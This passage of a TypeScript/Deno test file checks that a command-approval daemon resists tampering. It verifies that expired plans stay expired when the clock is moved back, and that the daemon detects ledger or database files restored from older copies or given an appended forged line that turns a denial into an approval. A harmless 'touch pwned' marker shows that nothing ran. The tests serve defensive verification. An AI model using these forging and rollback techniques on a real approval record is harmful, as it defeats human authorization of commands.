    const wire = await daemon.dial();
    const untouched = asked.at(-1) as Asked;
    if (contained) {
      // That one is answered shows that all of the file was read.
      assertEquals(codeOf(await ask(wire, ":HELLO :CLIENT :TEST :CAPABILITIES (:PLANS)")), undefined);
      wire.ignore("(:TYPE :EVENT)");
      if (await stateOf(wire, untouched) !== "DONE") await wire.expect(plan(":DONE", `:ID "${untouched.id}"`));
    }
    const states = [];
    for (const [n, name] of names.slice(0, -1).entries()) states.push([name, await stateOf(wire, asked[n] as Asked)]);
    assertEquals(states.filter(([, state]) => state !== "PLAN"), []);
    for (const [n] of states.entries()) assert(!await exists(`${workOf(daemon)}/forged-${n}`));
  });
});

phaseTest(1, AREA, "plan that expired stays so though the clock is set back", [], () => {
  let shift = 0;
  const clock: Clock = {
    now: () => Date.now() + shift,
    // Nothing here waits for a timer.
    after: () => () => {},
  };
  return withShell(async (daemon) => {
    const wire = await daemon.dial();
    const asked = await propose(wire, "touch pwned");
    for (const at of [120_000, -120_000, 0]) {
      shift = at;
      assertEquals(codeOf(await ask(wire, decision("APPROVE", asked))), "PLAN-RESOLVED");
    }
    await wire.expect(plan(":EXPIRED"));
    assertEquals(await stateOf(wire, asked), "EXPIRED");
    assert(!await exists(`${workOf(daemon)}/pwned`));
  }, { clock, config: { planExpiryMs: 60_000 } });
});

phaseTest(
  1,
  AREA,
  "ledger or store put back from an older copy, and a line put in, are told",
  [],
  () =>
    withShell(async (daemon) => {
      const names = ["ledger.log", "passepartout.db"];
      const copies = new Map<string, Uint8Array>();
      const first = await daemon.dial();
      const asked = await propose(first, "touch pwned");
      await daemon.closeWires();
      await daemon.stop();
      for (const name of names) copies.set(name, await Deno.readFile(`${daemon.stateFolder}/${name}`));
      await daemon.start();
      const second = await daemon.dial();
      assertEquals(codeOf(await ask(second, decision("DENY", asked))), undefined);
      await daemon.closeWires();
      await daemon.stop();
      const now = new Map<string, Uint8Array>();
      for (const name of names) now.set(name, await Deno.readFile(`${daemon.stateFolder}/${name}`));
      const line = new TextDecoder().decode(now.get("ledger.log")).trimEnd().split("\n").at(-1) ?? "";
      const forged = new TextEncoder().encode(`${line.replace('"deny"', '"approve"').replace("DENIED", "APPROVED")}\n`);
      const attacks: readonly (readonly [string, ReadonlyMap<string, Uint8Array>])[] = [
        ["old ledger", new Map([["ledger.log", copies.get("ledger.log") as Uint8Array]])],
        ["old store", new Map([["passepartout.db", copies.get("passepartout.db") as Uint8Array]])],
        ["line more", new Map([["ledger.log", new Uint8Array([...now.get("ledger.log") as Uint8Array, ...forged])]])],
      ];
      for (const [what, files] of attacks) {
        for (const [name, bytes] of [...now, ...files]) await Deno.writeFile(`${daemon.stateFolder}/${name}`, bytes);
        for (const end of ["wal", "shm"]) {
          await Deno.remove(`${daemon.stateFolder}/passepartout.db-${end}`).catch(() => {});
        }
        await daemon.start();
        const wire = await daemon.dial();
        const told = payload(await ask(wire, ":VERIFY-LEDGER"));
        assertEquals(getf(told, "WHOLE"), null, what);
        await daemon.closeWires();
        await daemon.stop();
      }
      assert(!await exists(`${workOf(daemon)}/pwned`));
    }, { allowLog: [/not contained/, /Ledger looked at/, /ledger is not as it was/, /Plan (not begun|closed)/] }),
);
